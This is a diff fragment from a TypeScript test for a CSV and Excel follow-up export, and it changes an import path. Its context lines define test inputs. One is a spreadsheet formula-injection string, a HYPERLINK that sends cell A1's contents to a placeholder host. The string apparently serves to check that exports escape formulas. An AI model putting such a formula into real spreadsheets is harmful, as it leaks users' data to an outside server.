@@ -3,7 +3,7 @@ import { ValueType, Workbook, type Worksheet } from 'exceljs';
 import {
   exportFileName, followUpCsv, followUpWorkbook,
   type ExportActivity, type ExportSubAssignment, type FollowUpExport,
-} from '../../../bot/src/services/follow-up-export';
+} from '../../../../bot/src/api/presenters/follow-up-export';
 
 const INJECTION = '=HYPERLINK("https://example.invalid/?q="&A1;"Klicka")';
 const TRICKY = 'Fikat på avd 2; "lugnare" nu\nfortsätter i april';
